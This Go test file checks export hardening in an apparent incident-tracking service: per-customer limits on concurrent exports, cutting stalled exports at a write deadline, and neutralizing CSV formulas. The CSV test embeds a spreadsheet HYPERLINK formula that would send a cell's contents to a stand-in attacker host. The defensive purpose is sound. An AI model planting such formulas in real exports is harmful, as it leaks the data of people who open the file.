package hardening

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"testing"
	"time"

	"github.com/incidentd/incidentd/seed"
)

// TestExportBoundsAndWriteDeadline: a customer runs at most two exports at
// once, the third refused (429, code 53, Retry-After) while another
// customer's export goes through; a client that stops reading is cut once
// a chunk has waited the write timeout, and its slot comes back.
func TestExportBoundsAndWriteDeadline(t *testing.T) {
	t.Parallel()
	s := serveSQLite(t, []string{"--write-timeout", "2s"},
		seed.CustomerPlan{ID: "bulk", Name: "Bulk Industries", Incidents: 5_000},
		seed.CustomerPlan{ID: "other", Name: "Other SA", Incidents: 50})
	srv, c := s.srv, s.c
	bulk, other := s.reader["bulk"], s.reader["other"]
	c.login(&bulk)
	c.login(&other)
	list := func(who caller) reply {
		return c.must(as(c.request(http.MethodGet, base+"/incidents", nil), who))
	}

	for _, accept := range []string{"application/x-ndjson", "text/csv"} {
		if line := statusLine(t, stalledExport(t, srv, bulk, accept)); line != "HTTP/1.1 200 OK" {
			t.Fatalf("a stalled export: %q", line)
		}
	}
	req := as(c.request(http.MethodGet, base+"/incidents", nil), bulk)
	req.Header.Set("Accept", "application/x-ndjson")
	third := c.must(req)
	wantError(t, "a third export of the customer", third, http.StatusTooManyRequests, 53)
	if ra := third.header.Get("Retry-After"); ra != "5" {
		t.Errorf("Retry-After %q, want 5", ra)
	}
	req = as(c.request(http.MethodGet, base+"/incidents", nil), other)
	req.Header.Set("Accept", "text/csv")
	if r := c.must(req); r.status != http.StatusOK || r.header.Get("X-Result-Count") != "50" {
		t.Errorf("another customer's export during the stall: %d, %s rows", r.status, r.header.Get("X-Result-Count"))
	}

	// Cut after 2 s without progress: the log says why.
	if !srv.log.waitFor(30*time.Second, 2, `"msg":"export interrupted"`, "timeout") {
		t.Fatalf("the stalled exports were not cut: %d interrupted", srv.log.count(`"msg":"export interrupted"`))
	}
	if r := list(bulk); r.status != http.StatusOK {
		t.Errorf("a JSON list after the cut: %d", r.status)
	}
	req = as(c.request(http.MethodGet, base+"/incidents?limit=10", nil), bulk)
	req.Header.Set("Accept", "text/csv")
	if r := c.must(req); r.status != http.StatusOK {
		t.Errorf("an export once the stalled ones were cut: %d %s", r.status, excerpt(r.body))
	}
}

// TestCSVFormulasNeutralized: a customer plants a formula in what it
// reports; the operator's CSV export opens it as text (a quote in front),
// as OWASP's CSV injection guidance recommends.
func TestCSVFormulasNeutralized(t *testing.T) {
	t.Parallel()
	s := serveSQLite(t, nil, seed.CustomerPlan{ID: "acme", Name: "Acme", Incidents: 5})
	c := s.c
	customer, operator := s.writer["acme"], s.operator
	c.login(&customer)
	c.login(&operator)
	const planted = `=HYPERLINK("http://evil.example/?leak="&A2,"Details")`
	r := c.must(as(c.request(http.MethodPost, base+"/incidents", map[string]any{"description": planted, "impact": "S4", "urgency": "U3"}), customer))
	if r.status != http.StatusCreated {
		t.Fatalf("report: %d %s", r.status, r.body)
	}
	req := as(c.request(http.MethodGet, base+"/incidents?fields=description&description.contains=HYPERLINK", nil), operator)
	req.Header.Set("Accept", "text/csv")
	rows, err := csv.NewReader(bytes.NewReader(c.must(req).body)).ReadAll()
	if err != nil || len(rows) != 2 || rows[1][1] != "'"+planted {
		t.Errorf("the exported cell: %q (%v), want the formula after a quote", rows, err)
	}
}
